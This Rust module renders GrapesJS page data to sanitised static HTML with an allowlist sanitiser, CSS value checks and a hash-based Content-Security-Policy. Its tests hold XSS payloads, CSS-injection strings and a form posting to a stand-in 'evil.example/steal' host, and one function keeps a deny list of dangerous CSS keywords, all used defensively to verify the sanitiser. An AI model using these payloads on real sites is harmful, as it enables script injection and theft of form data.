//! Publishing's renderer: a page's GrapesJS project data to one static HTML
//! document with its CSS, safe to serve.
//!
//! The component tree is written out as HTML (text escaped, attribute names
//! checked), then the whole body goes through `ammonia` with an allowlist of
//! tags and attributes and of URL schemes (http, https, mailto, tel and
//! relative), so no `<script>`, event handler or `javascript:` URL survives
//! however it was put into the project. Style rules are rebuilt from their
//! JSON: selectors, media queries and values that could escape the style
//! sheet or load from elsewhere are dropped. The page's Content-Security-
//! Policy names the hash of its one style element and allows scripts from
//! the site itself only (the form helper).

use crate::model::MAX_COMPONENTS;
use base64::Engine;
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::collections::HashSet;
use std::fmt::Write as _;
use std::sync::LazyLock;

/// What a page renders to.
#[derive(Clone, Debug)]
pub struct Rendered {
    /// The whole document.
    pub html: String,
    /// Its Content-Security-Policy.
    pub csp: String,
    /// A strong entity tag of the document.
    pub etag: String,
}

/// The head of a page: what search engines and link previews read.
#[derive(Clone, Debug)]
pub struct Head<'a> {
    /// The document's title.
    pub title: &'a str,
    /// Its description.
    pub description: &'a str,
    /// Its canonical URL.
    pub canonical: &'a str,
    /// The link-preview image, if any (absolute or site-relative).
    pub social_image: Option<&'a str>,
    /// Asks search engines not to index it.
    pub noindex: bool,
    /// The site's name, for link previews.
    pub site_name: &'a str,
    /// The document's language.
    pub lang: &'a str,
}

/// The project's component tree and style rules, as GrapesJS stores them:
/// `{styles, pages: [{frames: [{component}]}]}`; a bare `{components,
/// styles}` is read too.
pub fn parts(project: &Value) -> (Option<&Value>, &[Value]) {
    let component = project
        .pointer("/pages/0/frames/0/component")
        .or_else(|| project.get("component"))
        .or_else(|| project.get("components"));
    let styles = project.get("styles").and_then(Value::as_array).map(Vec::as_slice).unwrap_or(&[]);
    (component, styles)
}

/// Renders a page.
pub fn page(head: &Head<'_>, project: &Value, page_path: &str) -> Rendered {
    let (component, styles) = parts(project);
    let mut body = String::with_capacity(16 * 1024);
    let mut budget = MAX_COMPONENTS;
    if let Some(c) = component {
        component_html(c, &mut body, 0, &mut budget, page_path);
    }
    let body = sanitise(&body);
    let css = format!("{BASE_CSS}{}", styles_css(styles));
    document(head, &body, &css)
}

/// A plain page of the site's own: the 404 and the form confirmation.
pub fn notice(head: &Head<'_>, heading: &str, text: &str, link: (&str, &str)) -> Rendered {
    let body = format!(
        "<main class=\"sp-notice\"><h1>{}</h1><p>{}</p><p><a href=\"{}\">{}</a></p></main>",
        escape(heading),
        escape(text),
        escape(link.0),
        escape(link.1)
    );
    document(head, &body, &format!("{BASE_CSS}{NOTICE_CSS}"))
}

const BASE_CSS: &str = "*{box-sizing:border-box}body{margin:0}img{max-width:100%;height:auto}\
.sp-hp{position:absolute!important;left:-10000px!important;width:1px;height:1px;overflow:hidden}\
.sp-status{margin:12px 0 0;font-weight:600}";
const NOTICE_CSS: &str = ".sp-notice{font-family:system-ui,-apple-system,'Segoe UI',Roboto,sans-serif;max-width:36rem;\
margin:15vh auto;padding:0 1.25rem;color:#1f2937;line-height:1.5}.sp-notice h1{font-size:2rem;margin:0 0 .5rem}\
.sp-notice a{color:#1d4ed8}";

fn document(head: &Head<'_>, body: &str, css: &str) -> Rendered {
    let mut h = String::with_capacity(body.len() + css.len() + 1024);
    let _ = write!(h, "<!doctype html><html lang=\"{}\"><head><meta charset=\"utf-8\">", escape(head.lang));
    h.push_str("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">");
    let _ = write!(h, "<title>{}</title>", escape(head.title));
    if !head.description.is_empty() {
        let _ = write!(h, "<meta name=\"description\" content=\"{}\">", escape(head.description));
    }
    let _ = write!(h, "<link rel=\"canonical\" href=\"{}\">", escape(head.canonical));
    if head.noindex {
        h.push_str("<meta name=\"robots\" content=\"noindex\">");
    }
    let _ = write!(
        h,
        "<meta property=\"og:type\" content=\"website\"><meta property=\"og:title\" content=\"{}\">\
         <meta property=\"og:site_name\" content=\"{}\"><meta property=\"og:url\" content=\"{}\">",
        escape(head.title),
        escape(head.site_name),
        escape(head.canonical)
    );
    if !head.description.is_empty() {
        let _ = write!(h, "<meta property=\"og:description\" content=\"{}\">", escape(head.description));
    }
    match head.social_image {
        Some(img) => {
            let _ = write!(
                h,
                "<meta property=\"og:image\" content=\"{}\"><meta name=\"twitter:card\" content=\"summary_large_image\">",
                escape(&absolute(head.canonical, img))
            );
        }
        None => h.push_str("<meta name=\"twitter:card\" content=\"summary\">"),
    }
    // No favicon request, and the one script: the form helper, from the site itself.
    h.push_str("<link rel=\"icon\" href=\"data:,\"><script src=\"/_stackpro/site.js\" defer></script>");
    let _ = write!(h, "<style>{css}</style></head><body>{body}</body></html>");
    let style_hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(css.as_bytes()));
    let csp = format!(
        "default-src 'none'; img-src 'self' data:; style-src 'sha256-{style_hash}'; script-src 'self'; \
         connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
    );
    let etag = format!("\"{}\"", &hex::encode(Sha256::digest(h.as_bytes()))[..32]);
    Rendered { html: h, csp, etag }
}

/// `img` made absolute against the page's canonical URL when it is a path.
fn absolute(canonical: &str, img: &str) -> String {
    if img.starts_with('/') && !img.starts_with("//") {
        let origin_end = canonical.find("://").map(|i| i + 3).and_then(|s| canonical[s..].find('/').map(|j| s + j));
        let origin = origin_end.map(|e| &canonical[..e]).unwrap_or(canonical);
        format!("{origin}{img}")
    } else {
        img.to_owned()
    }
}

/// HTML-escapes text for element content and quoted attribute values.
pub fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

const VOID: &[&str] = &["area", "br", "col", "hr", "img", "input", "source", "wbr"];
/// Component types whose output is never published.
const DROPPED_TYPES: &[&str] = &["script", "comment", "iframe", "video", "map", "svg", "svg-in"];

fn is_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.bytes().next().is_some_and(|b| b.is_ascii_alphabetic())
        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b':')
}

fn component_html(v: &Value, out: &mut String, depth: usize, budget: &mut usize, page_path: &str) {
    if *budget == 0 || depth > 64 {
        return;
    }
    *budget -= 1;
    let obj = match v {
        Value::String(s) => {
            out.push_str(&escape(s));
            return;
        }
        Value::Object(o) => o,
        _ => return,
    };
    let ty = obj.get("type").and_then(Value::as_str).unwrap_or("default");
    if DROPPED_TYPES.contains(&ty) {
        return;
    }
    if ty == "textnode" {
        if let Some(s) = obj.get("content").and_then(Value::as_str) {
            out.push_str(&escape(s));
        }
        return;
    }
    let children = |out: &mut String, budget: &mut usize| {
        // `content` is HTML kept as text by GrapesJS; the sanitiser cleans it.
        if let Some(s) = obj.get("content").and_then(Value::as_str) {
            out.push_str(s);
        }
        match obj.get("components") {
            Some(Value::Array(list)) => {
                for c in list {
                    component_html(c, out, depth + 1, budget, page_path);
                }
            }
            Some(Value::String(s)) => out.push_str(s),
            _ => {}
        }
    };
    if ty == "wrapper" {
        children(out, budget);
        return;
    }
    let default_tag = match ty {
        "image" => "img",
        "link" => "a",
        "text" | "default" | "cell" | "row" => "div",
        "form" => "form",
        "input" => "input",
        "textarea" => "textarea",
        "label" => "label",
        "button" => "button",
        "select" => "select",
        "option" => "option",
        _ => "div",
    };
    let tag = obj
        .get("tagName")
        .and_then(Value::as_str)
        .map(str::to_ascii_lowercase)
        .filter(|t| is_name(t))
        .unwrap_or_else(|| default_tag.to_owned());
    let mut attrs: Vec<(String, String)> = Vec::new();
    if let Some(Value::Object(a)) = obj.get("attributes") {
        for (k, v) in a {
            let key = k.to_ascii_lowercase();
            if !is_name(&key) || key.starts_with("on") || key == "style" || key == "class" {
                continue;
            }
            let val = match v {
                Value::String(s) => s.clone(),
                Value::Number(n) => n.to_string(),
                Value::Bool(true) => String::new(),
                _ => continue,
            };
            attrs.push((key, val));
        }
    }
    if tag == "img" {
        if let Some(src) = obj.get("src").and_then(Value::as_str) {
            attrs.retain(|(k, _)| k != "src");
            attrs.push(("src".into(), src.to_owned()));
        }
    }
    if tag == "form" {
        // A form always posts to the platform, whatever the project says.
        let name = attrs
            .iter()
            .find(|(k, _)| k == "data-sp-form")
            .map(|(_, v)| v.clone())
            .filter(|n| is_name(n))
            .unwrap_or_else(|| "contact".into());
        attrs.retain(|(k, _)| k != "action" && k != "method" && k != "data-sp-form");
        attrs.push(("action".into(), format!("/_stackpro/forms/{name}")));
        attrs.push(("method".into(), "post".into()));
        attrs.push(("data-sp-form".into(), name));
    }
    let classes: Vec<String> = obj
        .get("classes")
        .and_then(Value::as_array)
        .map(|list| {
            list.iter()
                .filter_map(|c| match c {
                    Value::String(s) => Some(s.clone()),
                    Value::Object(o) => o.get("name").and_then(Value::as_str).map(str::to_owned),
                    _ => None,
                })
                .filter(|c| is_class(c))
                .collect()
        })
        .unwrap_or_default();
    let _ = write!(out, "<{tag}");
    if !classes.is_empty() {
        let _ = write!(out, " class=\"{}\"", escape(&classes.join(" ")));
    }
    for (k, v) in &attrs {
        let _ = write!(out, " {k}=\"{}\"", escape(v));
    }
    out.push('>');
    if VOID.contains(&tag.as_str()) {
        return;
    }
    if tag == "form" {
        // The page it came from, and the honeypot (people never see it).
        let _ = write!(
            out,
            "<input type=\"hidden\" name=\"_page\" value=\"{}\"><div class=\"sp-hp\" aria-hidden=\"true\">\
             <label for=\"sp-hp-{n}\">Leave this empty</label><input id=\"sp-hp-{n}\" type=\"text\" name=\"_hp\" \
             tabindex=\"-1\" autocomplete=\"off\"></div>",
            escape(page_path),
            n = *budget
        );
    }
    children(out, budget);
    let _ = write!(out, "</{tag}>");
}

fn is_class(c: &str) -> bool {
    !c.is_empty()
        && c.len() <= 64
        && !c.as_bytes()[0].is_ascii_digit()
        && c.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let tags: HashSet<&str> = [
        "a",
        "abbr",
        "address",
        "article",
        "aside",
        "b",
        "blockquote",
        "br",
        "button",
        "caption",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "fieldset",
        "figcaption",
        "figure",
        "footer",
        "form",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hr",
        "i",
        "img",
        "input",
        "label",
        "legend",
        "li",
        "main",
        "mark",
        "nav",
        "ol",
        "optgroup",
        "option",
        "p",
        "picture",
        "pre",
        "q",
        "s",
        "section",
        "select",
        "small",
        "source",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "textarea",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
    ]
    .into_iter()
    .collect();
    let mut b = ammonia::Builder::default();
    b.tags(tags)
        .generic_attributes(["id", "class", "title", "lang", "dir", "role", "hidden"].into_iter().collect())
        .generic_attribute_prefixes(["aria-"].into_iter().collect())
        .tag_attributes(
            [
                ("a", ["href", "target", "hreflang"].as_slice()),
                ("img", &["src", "srcset", "sizes", "alt", "width", "height", "loading", "decoding"]),
                ("source", &["srcset", "sizes", "media", "type", "width", "height"]),
                ("form", &["action", "method", "data-sp-form"]),
                (
                    "input",
                    &[
                        "name",
                        "type",
                        "required",
                        "placeholder",
                        "autocomplete",
                        "value",
                        "tabindex",
                        "maxlength",
                        "minlength",
                        "min",
                        "max",
                        "checked",
                        "inputmode",
                    ],
                ),
                ("textarea", &["name", "rows", "cols", "required", "placeholder", "maxlength", "minlength"]),
                ("select", &["name", "required", "multiple"]),
                ("option", &["value", "selected"]),
                ("label", &["for"]),
                ("button", &["type", "name", "value"]),
                ("td", &["colspan", "rowspan"]),
                ("th", &["colspan", "rowspan", "scope"]),
                ("col", &["span"]),
                ("time", &["datetime"]),
                ("ol", &["start", "reversed", "type"]),
                ("details", &["open"]),
                ("blockquote", &["cite"]),
                ("q", &["cite"]),
            ]
            .into_iter()
            .map(|(t, a)| (t, a.iter().copied().collect()))
            .collect(),
        )
        .url_schemes(["http", "https", "mailto", "tel"].into_iter().collect())
        .url_relative(ammonia::UrlRelative::PassThrough)
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            // A form posts to the platform only (forms built as components
            // get that action; one written as raw HTML keeps none).
            ("form", "action") => value.starts_with("/_stackpro/forms/").then(|| value.into()),
            // Every candidate of a srcset is an image of the site itself.
            ("img" | "source", "srcset") => {
                value.split(',').all(|c| same_site(c.split_whitespace().next().unwrap_or(""))).then(|| value.into())
            }
            _ => Some(value.into()),
        })
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true);
    b
});

fn same_site(url: &str) -> bool {
    // Browsers read `/\host` like `//host`.
    url.starts_with('/') && !url.starts_with("//") && !url.starts_with("/\\")
}

/// Cleans a body fragment with the allowlist.
pub fn sanitise(html: &str) -> String {
    SANITISER.clean(html).to_string()
}

/// The style sheet of a project's rules: rules are grouped by media query
/// (in the order they first appear), every piece checked.
pub fn styles_css(styles: &[Value]) -> String {
    let mut plain = String::new();
    let mut media: Vec<(String, String)> = Vec::new();
    for rule in styles.iter().take(MAX_COMPONENTS) {
        let Some(r) = rule_css(rule) else { continue };
        let media_text = rule.get("mediaText").and_then(Value::as_str).unwrap_or("").trim();
        if media_text.is_empty() {
            plain.push_str(&r);
        } else {
            if !is_media(media_text) {
                continue;
            }
            match media.iter_mut().find(|(m, _)| m == media_text) {
                Some((_, body)) => body.push_str(&r),
                None => media.push((media_text.to_owned(), r)),
            }
        }
    }
    for (m, body) in media {
        let _ = write!(plain, "@media {m}{{{body}}}");
    }
    plain
}

fn rule_css(rule: &Value) -> Option<String> {
    let at = rule.get("atRuleType").and_then(Value::as_str).unwrap_or("media");
    if at != "media" && !at.is_empty() {
        return None;
    }
    let mut selector = String::new();
    if let Some(list) = rule.get("selectors").and_then(Value::as_array) {
        for s in list {
            let name = match s {
                Value::String(s) => s.as_str(),
                Value::Object(o) => o.get("name").and_then(Value::as_str).unwrap_or(""),
                _ => "",
            };
            if let Some(id) = name.strip_prefix('#') {
                if !is_class(id) {
                    return None;
                }
                let _ = write!(selector, "#{id}");
            } else if let Some(tag) = name.strip_prefix('.').or(Some(name)) {
                if !is_class(tag) {
                    return None;
                }
                let _ = write!(selector, ".{tag}");
            }
        }
    }
    if let Some(state) = rule.get("state").and_then(Value::as_str).filter(|s| !s.is_empty()) {
        if !state.bytes().all(|b| b.is_ascii_lowercase() || b == b'-') || selector.is_empty() {
            return None;
        }
        let _ = write!(selector, ":{state}");
    }
    if let Some(add) = rule.get("selectorsAdd").and_then(Value::as_str).map(str::trim).filter(|s| !s.is_empty()) {
        if !is_selector_text(add) {
            return None;
        }
        if !selector.is_empty() {
            selector.push_str(", ");
        }
        selector.push_str(add);
    }
    if selector.is_empty() {
        return None;
    }
    let style = rule.get("style").and_then(Value::as_object)?;
    let mut decls = String::new();
    // In name order (serde_json's map): a shorthand (`padding`) sorts before
    // its longhands (`padding-top`), so the longhand wins as written.
    for (prop, value) in style {
        let Some(value) = value.as_str() else { continue };
        if is_property(prop) && is_safe_value(value) {
            let _ = write!(decls, "{prop}:{};", value.trim());
        }
    }
    if decls.is_empty() {
        return None;
    }
    Some(format!("{selector}{{{decls}}}"))
}

fn is_property(p: &str) -> bool {
    // Old browsers ran code through these two.
    if p.eq_ignore_ascii_case("behavior") || p.eq_ignore_ascii_case("-moz-binding") {
        return false;
    }
    let p = p.strip_prefix('-').unwrap_or(p);
    !p.is_empty()
        && p.len() <= 64
        && p.as_bytes()[0].is_ascii_lowercase()
        && p.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
}

fn is_selector_text(s: &str) -> bool {
    s.len() <= 256
        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b" -_#.:,>+~*[]=\"'()".contains(&b))
        && !s.contains("/*")
}

fn is_media(m: &str) -> bool {
    m.len() <= 128 && m.bytes().all(|b| b.is_ascii_alphanumeric() || b" ().:-,".contains(&b))
}

/// A declaration's value is kept only if it cannot leave its declaration
/// (no braces, semicolons, angle brackets or escapes), runs nothing
/// (`expression(`, `javascript:`, bindings), and loads only from the site
/// itself or an inline image.
pub fn is_safe_value(v: &str) -> bool {
    if v.len() > 1024 || v.bytes().any(|b| b"{};<>\\".contains(&b) || b < 0x20) || v.contains("/*") {
        return false;
    }
    let lower = v.to_ascii_lowercase();
    if ["expression", "javascript:", "vbscript:", "@import", "behavior", "-moz-binding"]
        .iter()
        .any(|w| lower.contains(w))
    {
        return false;
    }
    let mut rest = lower.as_str();
    while let Some(i) = rest.find("url(") {
        let after = &rest[i + 4..];
        let Some(end) = after.find(')') else { return false };
        let inner = after[..end].trim().trim_matches(|c| c == '"' || c == '\'').trim();
        let same_site = inner.starts_with('/') && !inner.starts_with("//");
        let inline = ["data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp"]
            .iter()
            .any(|p| inner.starts_with(p));
        if !(same_site || inline) {
            return false;
        }
        rest = &after[end..];
    }
    // image-set() and other fetching functions without url() take bare strings.
    !lower.contains("image-set(") && !lower.contains("image(") && !lower.contains("src(")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn head() -> Head<'static> {
        Head {
            title: "T",
            description: "",
            canonical: "http://s.localhost/",
            social_image: None,
            noindex: false,
            site_name: "S",
            lang: "en",
        }
    }

    fn project(component: Value, styles: Value) -> Value {
        json!({ "styles": styles, "pages": [{ "frames": [{ "component": component }] }] })
    }

    #[test]
    fn script_event_handlers_and_javascript_urls_do_not_survive_rendering() {
        let c = json!({ "type": "wrapper", "components": [
            { "type": "text", "tagName": "h1", "components": [{ "type": "textnode", "content": "Hello <b>x</b>" }] },
            { "tagName": "script", "content": "alert(1)" },
            { "type": "script", "components": "alert(2)" },
            { "type": "image", "attributes": { "src": "/a.png", "onerror": "alert(3)", "alt": "a" } },
            { "type": "link", "attributes": { "href": "javascript:alert(4)" }, "components": [{ "type": "textnode", "content": "go" }] },
            { "type": "text", "content": "<img src=x onerror=alert(5)><a href=\"JaVaScRiPt:alert(6)\">y</a><script>alert(7)</script>" },
            { "tagName": "iframe", "attributes": { "src": "https://evil.example" } },
            { "tagName": "div", "attributes": { "style": "background:url(https://evil.example/x)", "onclick": "alert(8)" } },
            { "type": "text", "content": "<form action=\"https://evil.example/steal\"><input name=a></form><img srcset=\"https://evil.example/y.png 2x\" src=\"/a.png\">" },
        ]});
        let r = page(&head(), &project(c, json!([])), "/");
        let lower = r.html.to_ascii_lowercase();
        for bad in ["alert(", "onerror", "onclick", "javascript:", "<iframe", "evil.example"] {
            assert!(!lower.contains(bad), "{bad} survived in {}", r.html);
        }
        // The only script element is the platform's own helper.
        assert_eq!(lower.matches("<script").count(), 1);
        assert!(r.html.contains("<h1>Hello &lt;b&gt;x&lt;/b&gt;</h1>"), "{}", r.html);
    }

    #[test]
    fn styles_that_escape_or_load_from_elsewhere_are_dropped_and_the_rest_kept() {
        let styles = json!([
            { "selectors": ["hero"], "style": { "color": "red", "background-image": "url('/_assets/x.png')" } },
            { "selectors": ["#i1"], "style": { "background": "url(https://evil.example/a.png)" } },
            { "selectors": ["a"], "style": { "color": "red}body{display:none" } },
            { "selectors": ["a"], "style": { "width": "expression(alert(1))" } },
            { "selectors": ["b</style><script>"], "style": { "color": "red" } },
            { "selectors": ["c"], "style": { "color": "blue" }, "mediaText": "(max-width: 480px)", "atRuleType": "media" },
            { "selectors": ["d"], "style": { "color": "blue" }, "atRuleType": "import" },
            { "selectors": ["e"], "style": { "behavior": "url(/x.htc)", "-moz-binding": "url(/x.xml)" } },
        ]);
        let css = styles_css(styles.as_array().unwrap());
        assert_eq!(
            css,
            ".hero{background-image:url('/_assets/x.png');color:red;}@media (max-width: 480px){.c{color:blue;}}"
        );
    }

    #[test]
    fn forms_post_to_the_platform_with_a_honeypot_whatever_the_project_says() {
        let c = json!({ "tagName": "form", "attributes": { "action": "https://evil.example/steal", "method": "get" },
            "components": [{ "tagName": "input", "attributes": { "name": "email", "type": "email" } }] });
        let r = page(&head(), &project(c, json!([])), "/contact");
        assert!(r.html.contains("action=\"/_stackpro/forms/contact\""), "{}", r.html);
        assert!(!r.html.contains("evil.example"));
        assert!(r.html.contains("name=\"_hp\""));
        assert!(r.html.contains("name=\"_page\" value=\"/contact\""));
    }

    #[test]
    fn the_policy_names_the_hash_of_the_style_it_serves() {
        let r = page(&head(), &project(json!({ "type": "wrapper" }), json!([])), "/");
        let start = r.html.find("<style>").unwrap() + 7;
        let end = r.html.find("</style>").unwrap();
        let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(&r.html.as_bytes()[start..end]));
        assert!(r.csp.contains(&format!("'sha256-{hash}'")), "{}", r.csp);
        assert!(r.csp.contains("script-src 'self'"));
    }
}
